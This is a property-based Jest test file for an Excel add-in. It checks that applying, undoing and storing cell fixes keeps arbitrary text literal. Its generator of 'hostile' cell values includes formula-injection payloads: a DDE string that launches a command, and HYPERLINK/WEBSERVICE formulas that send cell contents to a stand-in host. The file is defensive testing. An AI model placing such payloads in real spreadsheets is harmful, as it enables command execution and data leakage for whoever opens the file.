/** @jest-environment jsdom */
import * as fc from 'fast-check';
import { type Fix } from '../../src/core/changes/fix';
import { DEFAULT_SETTINGS } from '../../src/core/settings';
import { gridFromValues } from '../../src/core/sheet/grid';
import { changeSettings, loadSettings } from '../../src/excel/settings-store';
import { applyFixes } from '../../src/excel/write/apply-fixes';
import { writePlan } from '../../src/excel/write/plan/write-plan';
import { undoFixes } from '../../src/excel/write/undo-fixes';
import { type ConnectedOffice, connectOffice } from '../workbench/office';
import { runs } from '../runs';

const begin = fc.constantFrom('', '=', '+', '-', '@', '\t', ' ', "'", '"', '\u200b', '\t=', ' +', '=-', "'=");
const body = fc.constantFrom(
  'HYPERLINK("http://contoh.test/?"&A1,"Presentase")',
  'cmd|\'/c calc\'!A0&" Presentase"',
  'SUM(1,2)',
  'WEBSERVICE("http://contoh.test")',
  'http://contoh.test/a?b=c',
  '\\\\server\\folder',
  '1/2',
  '(12)',
  '12345678901234567890123456789012345678901234567890',
  'TRUE',
  'Presentase penduduk',
  '{1,2}',
);
/** What a cell of somebody's table may say. */
const hostile = fc
  .oneof(
    fc.tuple(begin, body).map((parts) => parts.join('')),
    fc.string({ maxLength: 60 }).filter((text) => !text.includes('\r')),
  )
  .filter((text) => text !== '');

const RUNS = { numRuns: runs(60) };

function expectText(office: ConnectedOffice, sheet: string, address: string, text: string): void {
  const cell = office.cell(sheet, address);
  expect({ text: cell?.value, formula: cell?.formula }).toEqual({ text, formula: undefined });
}

const fix = (before: string, after: string): Fix => ({
  kind: 'safe',
  changes: [{ kind: 'cell', sheet: 'IKU', position: { row: 1, column: 0 }, before, after }],
});

const sheetWith = (text: string, numberFormat: string) => ({
  name: 'IKU',
  cells: { A1: 'Indikator', B2: 'tetap', A2: { value: text, numberFormat, quoted: true } },
});

test.each(['General', '@', '0.00%'])('mending a text and undoing it, in a cell of format %s', async (numberFormat) => {
  await fc.assert(
    fc.asyncProperty(hostile, hostile, async (before, after) => {
      fc.pre(before !== after);
      const office = connectOffice({ sheets: [sheetWith('x', numberFormat)] });
      const cell = office.workbook.findSheet('IKU')?.touch(1, 0);
      if (cell) cell.value = before;
      const result = await applyFixes([fix(before, after)], []);
      expect(result).toMatchObject({ done: 1 });
      expectText(office, 'IKU', 'A2', after);
      expect(await undoFixes(result.applied)).toMatchObject({ kept: 0, remaining: null });
      expectText(office, 'IKU', 'A2', before);
      expect(office.cell('IKU', 'A2')?.style?.numberFormat ?? 'General').toBe(numberFormat);
    }),
    RUNS,
  );
});

test('putting a deleted row back', async () => {
  await fc.assert(
    fc.asyncProperty(hostile, async (text) => {
      const rows = [
        ['Indikator', 'Target'],
        ['a', 'satu'],
        [text, 'dua'],
        ['b', 'tiga'],
      ];
      const office = connectOffice({ sheets: [{ name: 'IKU', rows: rows.map((row) => row.map(() => 'x')) }] });
      rows.forEach((row, y) =>
        row.forEach((value, x) => {
          const cell = office.workbook.findSheet('IKU')?.touch(y, x);
          if (cell) cell.value = value;
        }),
      );
      const deletion: Fix = { kind: 'proposed', changes: [{ kind: 'deleteRow', sheet: 'IKU', row: 2 }] };
      const { applied } = await applyFixes([deletion], [gridFromValues(rows, { name: 'IKU' })]);
      expect(office.values('IKU', 'A3')).toEqual([['b']]);
      expect(await undoFixes(applied)).toMatchObject({ kept: 0 });
      expectText(office, 'IKU', 'A3', text);
      expect(office.values('IKU', 'A4')).toEqual([['b']]);
    }),
    RUNS,
  );
});

test('a new column’s header, and the cells of a new sheet', async () => {
  await fc.assert(
    fc.asyncProperty(hostile, async (text) => {
      const office = connectOffice({ sheets: [{ name: 'IKU', cells: { A1: 'Indikator' } }] });
      const columns = [
        { kind: 'insertColumn', sheet: 'IKU', before: 1, headerRow: 0, headerHeight: 1, header: text },
      ] as const;
      await applyFixes([{ kind: 'proposed', changes: columns }], []);
      expectText(office, 'IKU', 'B1', text);
      await writePlan({ name: 'Baru', cells: [{ row: 0, column: 0, value: text }] });
      expectText(office, 'Baru', 'A1', text);
    }),
    RUNS,
  );
});

test('what the settings keep of a cell comes back letter for letter', async () => {
  await fc.assert(
    fc.asyncProperty(hostile, async (text) => {
      connectOffice();
      const entry = { rule: 'ejaan', sheet: text, subject: text, text, reason: text };
      await changeSettings((settings) => ({ ...settings, accepted: [entry], polarities: { [text]: 'lower' } }));
      expect((await loadSettings()).settings).toEqual({
        ...DEFAULT_SETTINGS,
        accepted: [entry],
        polarities: Object.fromEntries([[text, 'lower']]),
      });
    }),
    RUNS,
  );
});

test('only what a rule calls a formula becomes one, and is a number again when undone', async () => {
  const office = connectOffice({ sheets: [{ name: 'IKU', cells: { A1: 'Capaian', A2: 5 } }] });
  const changes = [
    { kind: 'cell', sheet: 'IKU', position: { row: 1, column: 0 }, before: '5', after: '=B2/C2', formula: true },
  ] as const;
  const { applied } = await applyFixes([{ kind: 'proposed', changes }], []);
  expect(office.cell('IKU', 'A2')?.formula).toBe('=B2/C2');
  await undoFixes(applied);
  expect(office.cell('IKU', 'A2')).toMatchObject({ value: 5 });
  expect(office.cell('IKU', 'A2')?.formula).toBeUndefined();
});

test('a text that becomes a number in a cell for texts is one that Excel counts with', async () => {
  const office = connectOffice({
    sheets: [{ name: 'IKU', cells: { A1: 'Target', A2: { value: '75', numberFormat: '@' } } }],
  });
  const changes = [{ kind: 'cell', sheet: 'IKU', position: { row: 1, column: 0 }, before: '75', after: 75 }] as const;
  await applyFixes([{ kind: 'safe', changes }], []);
  expect(office.cell('IKU', 'A2')?.value).toBe(75);
  expect(office.cell('IKU', 'A2')?.style?.numberFormat ?? 'General').toBe('General');
});
